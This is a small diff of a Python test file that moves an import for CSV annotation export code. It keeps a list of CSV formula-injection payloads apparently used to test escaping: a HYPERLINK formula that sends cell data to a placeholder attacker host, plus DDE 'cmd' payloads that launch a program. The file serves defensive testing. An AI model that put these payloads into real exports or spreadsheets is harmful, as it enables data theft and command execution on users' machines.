@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from webapp.runs.annotations import COLUMNS, read_rows, to_csv
+from webapp.annotations.annotating import COLUMNS, read_rows, to_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]
